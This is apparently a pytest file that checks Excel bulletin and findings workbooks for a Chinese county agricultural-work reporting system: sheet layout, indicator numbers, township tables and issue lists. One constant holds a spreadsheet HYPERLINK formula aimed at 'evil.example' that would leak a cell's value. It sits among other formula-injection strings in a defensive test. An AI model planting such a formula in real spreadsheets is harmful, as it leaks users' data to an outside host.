"""The bulletin and the findings as workbooks, read back as Excel would."""

from collections.abc import Callable
from decimal import Decimal
from io import BytesIO
from typing import Any
from zipfile import ZipFile

import pytest
from openpyxl import Workbook, load_workbook

from yuebao.findings import Issue, make_issue
from yuebao.programme.models import Programme, Severity
from yuebao.reports.bulletin import Bulletin
from yuebao.reports.findings import findings_workbook
from yuebao.reports.xlsx import bulletin_workbook
from yuebao.results import IndicatorResult
from yuebao.rules.period import Period

MakeBulletin = Callable[..., Bulletin]
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"点我")'


def opened(content: bytes) -> Workbook:
    return load_workbook(BytesIO(content))


def rows(book: Workbook, sheet: str) -> list[list[Any]]:
    return [list(row) for row in book[sheet].iter_rows(values_only=True)]


@pytest.fixture(scope="module")
def book(make_bulletin: MakeBulletin) -> Workbook:
    return opened(bulletin_workbook(make_bulletin()))


def test_five_sheets_that_print_one_page_wide(book: Workbook) -> None:
    assert book.sheetnames == ["总览", "十项重点工作", "分乡镇", "报送情况", "方案疑点"]
    for sheet in book:
        assert sheet.page_setup.fitToHeight == 0  # as long as need be, one page wide
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage


def test_every_indicator_with_its_numbers_as_numbers(
    programme: Programme, book: Workbook, year: list[IndicatorResult]
) -> None:
    county = {r.indicator: r for r in year if (r.unit, r.period) == (programme.county, "2023-09")}
    table = rows(book, "十项重点工作")
    assert table[3][:6] == ["编号", "指标", "单位", "目标", "完成", "较上期"]
    found = {row[0]: row for row in table[4:] if row[0] in county}
    assert set(found) == {indicator.id for indicator in programme.indicators}
    for indicator, row in found.items():
        value = county[indicator].value
        assert isinstance(row[4], int | float)
        assert Decimal(str(row[4])) == round(value or Decimal(0), 2)
    assert found["W06-1"][12] == "5/7"
    assert found["W06-1"][3] == "≥87500"


def test_townships_stand_side_by_side(programme: Programme, book: Workbook) -> None:
    table = rows(book, "分乡镇")
    assert table[3][4:] == [unit.short_name for unit in programme.townships]
    [done] = [at for at, row in enumerate(table) if row[0] == "W06-1"]
    missing = table[3].index("蟠猫乡")
    assert table[done][missing] == "未报"
    assert sum(table[done + 1][4:]) == 87500
    assert set(table[done + 2][4:]) == {"规则分解"}
    [houses] = [at for at, row in enumerate(table) if row[0] == "W03-1"]
    assert table[houses][table[3].index("江坡镇")] == "—"  # owes nothing of it


def test_who_reported(book: Workbook) -> None:
    table = rows(book, "报送情况")
    by_unit = {row[0]: row for row in table}
    assert by_unit["蟠猫乡"][1:3] == ["未报", "未报"]
    assert by_unit["共和镇"][-5:] == [15, 15, 100, 15, 100]
    assert by_unit["未报：蟠猫乡"][1].startswith("T01 农业市场主体、")


def test_the_doubts_of_the_plan(book: Workbook) -> None:
    assert any("600户2106人" in str(row[2]) for row in rows(book, "方案疑点"))


def test_a_sample_is_marked_on_every_sheet(make_bulletin: MakeBulletin) -> None:
    sample = opened(bulletin_workbook(make_bulletin(sample=True)))
    assert all("【样例】" in str(sheet["A2"].value) for sheet in sample)


def test_a_quarters_workbook(
    make_bulletin: MakeBulletin, quarter: tuple[IndicatorResult, ...]
) -> None:
    bulletin = make_bulletin(period=Period.parse("2023-Q3"), results=quarter, statuses=())
    assert "第三季度" in opened(bulletin_workbook(bulletin))["总览"]["A2"].value


def issue(code: str, form: str, cell: str, **more: Any) -> Issue:
    return make_issue(code, unit="532323101", period="2023-09", form=form, cell=cell, **more)


@pytest.fixture(scope="module")
def findings(programme: Programme) -> Workbook:
    issues = [
        issue("falling", "T08", "C9", value="90", expected="100"),
        issue("required", "T08", "D10", clause="二(六)"),
        issue("required", "T08", "D9"),
        issue("not-a-number", "T03", "E8", value=FORMULA, words={"value": FORMULA}),
        issue("order", "T03", "F8", cells=("F8", "G8")),
        issue("older-template", "", ""),
    ]
    return opened(findings_workbook(programme, "532323101", "2023-09", issues))


def test_findings_form_by_form_errors_first(findings: Workbook) -> None:
    table = rows(findings, "问题清单")
    assert table[0][0] == "共和镇 2023年9月 问题清单"
    assert "错误 4 处，疑问 1 处，提示 1 处" in table[1][0]
    assert table[3] == [
        "序号",
        "表",
        "单元格",
        "问题",
        "怎么改",
        "填报值",
        "应为/参考",
        "依据",
        "程度",
    ]
    bands = [row[0] for row in table[4:] if not isinstance(row[0], int)]
    assert bands == [
        "整个文件（1 处）",
        "T03 设施农业大棚（2 处）",
        "T08 农村劳动力转移就业（3 处）",
    ]
    found = [(row[0], row[2], row[8]) for row in table[4:] if isinstance(row[0], int)]
    assert found == [
        (1, None, "提示"),
        (2, "E8", "错误"),
        (3, "F8、G8", "错误"),
        (4, "D9", "错误"),
        (5, "D10", "错误"),
        (6, "C9", "疑问"),
    ]


def test_a_finding_says_what_is_wrong_and_what_to_do(findings: Workbook) -> None:
    [row] = [row for row in rows(findings, "问题清单") if row[2] == "C9"]
    assert "情况说明" in row[4]
    assert row[5:8] == ["90", "100", None]


@pytest.mark.parametrize("text", [FORMULA, "+1", "@SUM(A1)", "{=A1}", "https://a.example", "007"])
def test_what_a_clerk_typed_never_becomes_a_formula_or_link(
    programme: Programme, text: str
) -> None:
    content = findings_workbook(
        programme, "532323101", "2023-09", [issue("choice", "T03", "E8", value=text)]
    )
    sheet = raw_sheet(content)
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert text in {c.value for row in opened(content)["问题清单"].iter_rows() for c in row}


def raw_sheet(content: bytes) -> str:
    with ZipFile(BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_severity_of_the_issue_itself_counts(programme: Programme) -> None:
    raised = issue("falling", "T08", "C9", severity=Severity.ERROR)
    book = opened(findings_workbook(programme, "532323101", "2023-09", [raised]))
    assert rows(book, "问题清单")[-1][8] == "错误"
